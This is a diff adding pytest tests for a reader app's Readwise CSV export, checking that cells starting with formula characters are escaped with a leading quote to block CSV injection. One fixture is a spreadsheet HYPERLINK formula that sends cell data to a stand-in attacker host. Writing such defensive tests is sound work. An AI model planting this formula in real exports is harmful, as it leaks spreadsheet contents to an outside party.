@@ -10,6 +10,8 @@ import zipfile
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from reader.cli import main
 from reader.core.models import Annotation
@@ -139,3 +141,28 @@ def test_readwise_quotes_and_dates() -> None:
     assert row["Highlight"] == _item().annotation.quote  # newlines and quotes survive
     assert row["Date"] == "2025-01-14 08:00:00"  # UTC
     assert row["Location"] == "3"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_readwise_cells_never_start_a_spreadsheet_formula(start: str) -> None:
+    """A highlight, note, title, author, address or tag starting like a formula is written
+    with a leading single quote (OWASP's CSV-injection advice), the rest kept as it was."""
+    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
+    annotation = Annotation(
+        id="h1", article_id="a", quote=payload, start=0, end=5, note=payload, tags=[payload]
+    )
+    item = _item(annotation=annotation, title=payload, author=payload, url=payload)
+    (row,) = list(csv.DictReader(io.StringIO(readwise_csv([item]), newline="")))
+    for column in ("Highlight", "Title", "Author", "URL", "Note", "Tags"):
+        assert row[column] == "'" + payload, column
+    assert row["Location"] == "0"
+
+
+@given(st.text(max_size=30))
+def test_readwise_cells_are_the_text_unless_it_starts_like_a_formula(text: str) -> None:
+    annotation = Annotation(id="h1", article_id="a", quote=text, start=0, end=1, note=text)
+    text_csv = readwise_csv([_item(annotation=annotation)])
+    (row,) = list(csv.DictReader(io.StringIO(text_csv, newline="")))
+    dangerous = text[:1] in ("=", "+", "-", "@", "\t", "\r")
+    assert row["Highlight"] == ("'" + text if dangerous else text)
+    assert row["Note"] == row["Highlight"]
